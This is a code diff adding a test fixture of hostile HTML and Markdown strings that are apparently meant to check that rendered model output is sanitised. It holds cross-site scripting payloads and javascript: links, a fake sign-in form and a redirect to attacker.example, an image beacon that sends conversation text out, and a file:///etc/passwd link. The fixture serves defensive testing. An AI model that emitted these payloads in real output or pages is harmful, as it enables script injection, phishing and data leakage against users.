@@ -1,0 +1,37 @@
+/** What a model might be talked into writing, a piece a block. If one of them worked, it would set `pwned` or open a dialog. */
+export const HOSTILE = [
+  '<script>globalThis.pwned = 1; alert(1)</script>',
+  '<img src=x onerror="globalThis.pwned = 1">',
+  '<svg onload="globalThis.pwned = 1"><script>alert(1)</script></svg>',
+  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+  '<a href="javascript:globalThis.pwned = 1" onclick="globalThis.pwned = 1">raw link</a>',
+  '<details open ontoggle="globalThis.pwned = 1"><summary>open</summary></details>',
+  '<style>* { display: none !important }</style>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mtext></math>',
+  '<form action="https://attacker.example/"><input name="password"><button>Sign in</button></form>',
+  '<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
+  '[script link](javascript:globalThis.pwned=1)',
+  '[coded link](&#106;avascript&colon;globalThis.pwned=1)',
+  '[spaced link](java\tscript:globalThis.pwned=1)',
+  '[upper link](JaVaScRiPt:globalThis.pwned=1)',
+  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[vb link](vbscript:msgbox(1))',
+  '[file link](file:///etc/passwd)',
+  '<javascript:alert(1)>',
+  '[titled link](https://example.com/ "a\\" onmouseover=\\"globalThis.pwned=1")',
+  '![a picture](https://attacker.example/beacon.png?what=was+said)',
+  '![inline picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+  '![](x"onerror="globalThis.pwned=1)',
+  '[a reference][evil]',
+  '```html"><script>globalThis.pwned=1</script>\n<img src=x onerror=alert(1)>\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '## A heading <img src=x onerror=alert(1)>',
+  '| <script>alert(1)</script> | [cell](javascript:alert(1)) |\n|---|---|\n| <b onmouseover=alert(1)>x</b> | y |',
+  'A footnote.[^location]',
+  '[^location]: Its text. <script>alert(1)</script>',
+  'autolink www.example.com/<script>alert(1)</script>',
+  '[evil]: javascript:globalThis.pwned=1',
+];
+
+/** What is a link all the same, because its address is harmless or made so. */
+export const HOSTILE_LINKS = ['titled link', 'Picture: a picture'];
